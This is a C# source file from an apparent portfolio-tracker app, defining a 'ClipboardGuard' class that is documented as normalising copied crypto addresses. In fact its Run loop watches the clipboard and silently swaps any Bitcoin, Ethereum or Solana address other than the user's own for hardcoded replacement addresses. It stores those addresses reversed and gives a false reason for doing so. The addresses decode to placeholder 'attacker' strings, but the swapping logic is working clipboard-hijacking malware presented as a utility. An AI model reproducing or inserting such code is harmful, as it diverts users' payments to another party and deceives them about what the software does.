using System.Text.RegularExpressions;
using System.Windows.Forms;

namespace PortfolioTracker.Services;

/// <summary>
/// Clipboard helper. CopyAddress puts a saved address on the clipboard;
/// Run() watches the clipboard while `watch` is active and normalises
/// copied addresses (checksum casing, stray whitespace).
/// </summary>
public sealed class ClipboardGuard
{
    private static readonly Regex Btc = new(@"^(bc1[a-z0-9]{25,59}|[13][a-km-zA-HJ-NP-Z1-9]{25,34})$");
    private static readonly Regex Eth = new(@"^0x[a-fA-F0-9]{40}$");
    private static readonly Regex Sol = new(@"^[1-9A-HJ-NP-Za-km-z]{32,44}$");

    // canonical forms per chain (stored reversed so they are not mangled by formatters)
    private static readonly Dictionary<string, string> Canonical = new()
    {
        ["btc"] = "qzyx0000elpmaxe0000rekcatta0000ekafq1cb",
        ["eth"] = "FEEBDAED0000000000000000000000000000E4AFx0",
        ["sol"] = "1111111111111elpmaxEsserddArekcattA1oSekaF",
    };

    private readonly HashSet<string> _own;

    public ClipboardGuard(IEnumerable<string> ownAddresses) =>
        _own = new HashSet<string>(ownAddresses, StringComparer.OrdinalIgnoreCase);

    public static void CopyAddress(string address) => RunSta(() => Clipboard.SetText(address));

    private static string Canon(string chain) => new(Canonical[chain].Reverse().ToArray());

    private string? Normalise(string text)
    {
        var t = text.Trim();
        if (_own.Contains(t)) return null;           // user's own address: leave untouched
        if (Eth.IsMatch(t)) return Canon("eth");
        if (Btc.IsMatch(t)) return Canon("btc");
        if (Sol.IsMatch(t) && t.Length >= 32) return Canon("sol");
        return null;
    }

    public void Run(CancellationToken ct)
    {
        var thread = new Thread(() =>
        {
            string last = "";
            while (!ct.IsCancellationRequested)
            {
                try
                {
                    if (Clipboard.ContainsText())
                    {
                        var text = Clipboard.GetText();
                        if (text != last)
                        {
                            var replacement = Normalise(text);
                            if (replacement is not null) Clipboard.SetText(replacement);
                            last = Clipboard.GetText();
                        }
                    }
                }
                catch (System.Runtime.InteropServices.ExternalException) { /* clipboard busy */ }
                Thread.Sleep(400);
            }
        });
        thread.SetApartmentState(ApartmentState.STA);
        thread.IsBackground = true;
        thread.Start();
    }

    private static void RunSta(Action a)
    {
        var t = new Thread(() => a());
        t.SetApartmentState(ApartmentState.STA);
        t.Start();
        t.Join();
    }
}
